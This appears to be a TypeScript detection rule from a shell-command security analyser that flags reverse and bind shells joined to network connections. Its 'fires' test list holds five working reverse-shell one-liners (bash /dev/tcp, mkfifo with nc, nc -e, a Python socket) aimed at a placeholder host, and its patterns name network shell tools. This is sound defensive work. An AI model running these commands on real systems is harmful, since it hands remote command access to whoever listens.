import type { Facts } from '../effects/derived-effect.ts'
import type { ResolvedCommand } from '../evaluate/machine.ts'
import { by, programOf, wordsOf, type Match, type Rule } from './rule.ts'

const shells = /^(ba|da|z|k|c|tc|fi|a)?sh$|^(pwsh|powershell|cmd\.exe)$/

export const rule: Rule = {
  id: 'remote-shell',
  level: 'stop',
  why: 'A shell whose input or output is a network connection lets whoever is at its other end type commands here.',
  techniques: ['T1059.004', 'T1071', 'T1095'],
  find: (facts) => [...connectedShells(facts), ...shellsBesideConnections(facts), ...servedShells(facts)],
  fires: [
    'sh -i >& /dev/tcp/198.51.100.7/443 0>&1',
    'exec 5<>/dev/tcp/198.51.100.7/80; sh <&5 >&5',
    'mkfifo /tmp/p; nc 198.51.100.7 443 < /tmp/p | sh > /tmp/p',
    'nc -e /bin/sh 198.51.100.7 443',
    `python3 -c 'import socket,subprocess;s=socket.socket();s.connect(("198.51.100.7",443));subprocess.call(["/bin/sh","-i"])'`,
  ],
  silent: ['nc -zv db01 5432', "timeout 3 bash -c '</dev/tcp/db01/5432'", 'ssh web1 uptime'],
}

/** A shell that reads from the network or writes to it. */
function connectedShells(facts: Facts): readonly Match[] {
  return facts.commands.flatMap((command) => {
    if (!shells.test(programOf(command))) return []
    const reads = command.stdin?.flows.some((flow) => flow.kind === 'network') === true
    const out = command.sink === 'network' || command.redirects.some(toNetwork)
    return reads || out
      ? [{ message: 'a shell takes its commands from the network or answers there', span: command.span }]
      : []
  })
}

const toNetwork = (redirect: ResolvedCommand['redirects'][number]): boolean =>
  redirect.target.kind !== 'unknown' &&
  /^\/dev\/(tcp|udp)\//.test(
    redirect.target.kind === 'known'
      ? redirect.target.text
      : redirect.target.kind === 'pattern'
        ? redirect.target.pattern
        : '',
  )

/** One program that both connects and starts a shell. */
function shellsBesideConnections(facts: Facts): readonly Match[] {
  const networked = new Map<number, Match>()
  for (const effect of facts.effects) {
    if (effect.type !== 'network-egress' && effect.type !== 'network-listen') continue
    if (effect.from === 'code')
      networked.set(by(facts, effect).span.start, {
        message: 'a program connects to the network and starts a shell',
        span: by(facts, effect).span,
      })
  }
  if (networked.size === 0) return []
  const starts = facts.commands.some(
    (command) => command.layer > 0 && shells.test(programOf(command)) && command.via.length > 0,
  )
  const runs = facts.effects.some(
    (effect) =>
      effect.type === 'spawn-shell' || (effect.type === 'exec-unknown-code' && effect.from === 'code'),
  )
  return starts || runs ? [...networked.values()] : []
}

/** Programs that hand a shell to whoever connects. */
function servedShells(facts: Facts): readonly Match[] {
  return facts.commands.flatMap((command, i) => {
    const program = programOf(command)
    if (
      !/^(nc|ncat|netcat|nc\.\w+|busybox|socat|rcat|pwncat|powercat|telnet|openssl|sbd|cryptcat)$/.test(
        program,
      )
    )
      return []
    const words = wordsOf(command).join(' ')
    const hands = /(^|\s)-\w*[ec]\w*\s+(\S*\/)?\w*sh\b|(^|\s)-[ec]\S*sh\b|--(sh-)?exec|(exec|system):/i.test(
      words,
    )
    const terminal =
      program === 'socat' && /(file|open):\S*,raw/i.test(words) && /\b(tcp|udp|openssl|sctp)/i.test(words)
    const pipes = terminal || feedsShell(facts, command, i)
    return hands || pipes ? [{ message: `${program} joins a shell to the network`, span: command.span }] : []
  })
}

/** `nc host < fifo | sh > fifo`: the pipe goes on in a shell, or a shell's output comes in. */
function feedsShell(facts: Facts, command: ResolvedCommand, index: number): boolean {
  const next = facts.commands[index + 1]
  const before = facts.commands.slice(0, index).findLast((one) => one.sink === 'pipe')
  if (command.sink === 'pipe' && next !== undefined && shells.test(programOf(next))) return true
  return (
    before !== undefined &&
    command.stdin !== undefined &&
    shells.test(programOf(before)) &&
    before.span.end <= command.span.start
  )
}
